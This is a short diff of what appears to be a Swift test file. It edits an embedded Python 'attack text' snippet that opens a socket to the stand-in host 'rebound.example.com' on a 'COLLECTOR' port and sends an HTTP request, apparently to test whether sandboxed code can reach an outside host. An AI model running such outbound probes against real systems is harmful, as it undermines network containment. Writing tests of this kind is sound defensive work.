@@ -83,7 +83,7 @@ import Testing
       AttackText.opening + #"""
         try:
             peer = socket.create_connection(("rebound.example.com", COLLECTOR), 5)
-            peer.sendall(b"GET / HTTP/1.1\r\nHost: rebound.example.com\r\n\r\n")
+            peer.sendall(f"GET / HTTP/1.1\r\nHost: rebound.example.com:{COLLECTOR}\r\n\r\n".encode())
             print(hear(peer)[:12])
         except OSError as error:
             print(type(error).__name__)
